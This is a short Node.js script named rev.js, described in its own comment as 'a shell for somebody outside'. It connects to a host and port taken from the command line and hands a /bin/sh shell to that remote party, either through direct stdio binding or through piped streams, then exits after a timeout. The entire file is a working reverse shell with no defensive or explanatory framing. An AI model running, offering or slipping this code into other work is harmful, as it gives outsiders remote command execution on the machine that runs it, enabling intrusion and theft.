// A shell for somebody outside: rev.js HOST PORT WAY
const net = require("net"), { spawn } = require("child_process");
const [host, port, way] = process.argv.slice(2);
const s = net.connect(Number(port), host, () => {
  if (way === "direct") { s.pause(); spawn("/bin/sh", [], { stdio: [s, s, s] }); return; }
  const p = spawn("/bin/sh", []);
  s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s);
});
setTimeout(() => process.exit(), 2500);
